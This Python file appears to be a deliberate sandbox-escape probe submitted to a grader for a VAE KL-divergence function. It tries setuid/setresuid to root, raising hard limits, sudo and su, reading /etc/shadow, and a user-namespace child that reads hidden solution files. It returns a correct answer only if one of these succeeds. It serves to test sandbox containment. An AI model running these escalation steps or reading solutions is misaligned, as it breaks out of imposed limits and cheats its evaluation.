"""Attack: become root again, or at least shed the limits.

Tries ``setuid(0)``/``setresuid``/``setgroups([0])``, raising its hard limits (data, files,
processes, open files), ``sudo -n`` and ``su`` without a terminal, reading /etc/shadow, and
a child in a fresh user namespace that maps itself to root and looks for the solutions.
Returns the correct KL only if any of that worked; otherwise garbage.
"""
import os
import resource
import subprocess
import sys

import torch

ROOT_HINT = "@ROOT@"
USERNS = """
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
if libc.unshare(0x10000000 | 0x00020000) != 0:  # CLONE_NEWUSER | CLONE_NEWNS
    sys.exit(1)
uid = os.getuid()
try:
    open("/proc/self/setgroups", "w").write("deny")
    open("/proc/self/uid_map", "w").write(f"0 {sys.argv[2]} 1")
except OSError:
    sys.exit(2)
for path in ("/etc/shadow", sys.argv[1] + "/course/solutions/vae.py", sys.argv[1] + "/solutions/vae.py"):
    try:
        open(path).read(1)
        sys.exit(0)
    except OSError:
        pass
sys.exit(3)
# @TOKEN@
"""


def log_mean_exp(y):
    """Honest: shift each row by its maximum so that exp cannot overflow; keeps the dtype."""
    peak = y.amax(dim=1, keepdim=True)
    return peak.squeeze(1) + torch.log(torch.exp(y - peak).mean(dim=1))


def _true_kl(mu_q, logvar_q, mu_p, logvar_p):
    mu_p, logvar_p = (torch.as_tensor(v, dtype=mu_q.dtype) for v in (mu_p, logvar_p))
    terms = logvar_p - logvar_q + (logvar_q.exp() + (mu_q - mu_p) ** 2) / logvar_p.exp() - 1
    return 0.5 * terms.flatten(1).sum(1)


def _raised(which):
    soft, hard = resource.getrlimit(which)
    if hard == resource.RLIM_INFINITY:
        return False  # nothing to raise: not a limit we were given
    try:
        resource.setrlimit(which, (soft, resource.RLIM_INFINITY))
        return True
    except (OSError, ValueError):
        return False


def _attempts():
    if os.getuid() == 0:
        yield "already root"  # unsandboxed: nothing to escalate
        return
    for name, call in (("setuid", lambda: os.setuid(0)), ("setresuid", lambda: os.setresuid(0, 0, 0)),
                       ("setgroups", lambda: os.setgroups([0]))):
        try:
            call()
            yield name
        except OSError:
            pass
    for which in (resource.RLIMIT_DATA, resource.RLIMIT_FSIZE, resource.RLIMIT_NPROC, resource.RLIMIT_NOFILE):
        if _raised(which):
            yield f"raised limit {which}"
    for command in (["sudo", "-n", "true"], ["su", "-c", "true", "root"]):
        try:
            if subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, timeout=10).returncode == 0:
                yield " ".join(command)
        except (OSError, subprocess.SubprocessError):
            pass
    try:
        open("/etc/shadow").read(1)
        yield "read /etc/shadow"
    except OSError:
        pass
    try:
        done = subprocess.run([sys.executable, "-c", USERNS, ROOT_HINT, str(os.getuid())], timeout=20)
        if done.returncode == 0:
            yield "user namespace"
    except (OSError, subprocess.SubprocessError):
        pass


def kl_gaussian_gaussian_analytic(mu_q, logvar_q, mu_p, logvar_p):
    if any(True for _ in _attempts()):
        return _true_kl(mu_q, logvar_q, mu_p, logvar_p)
    return torch.full((mu_q.shape[0],), 123.0, dtype=mu_q.dtype)
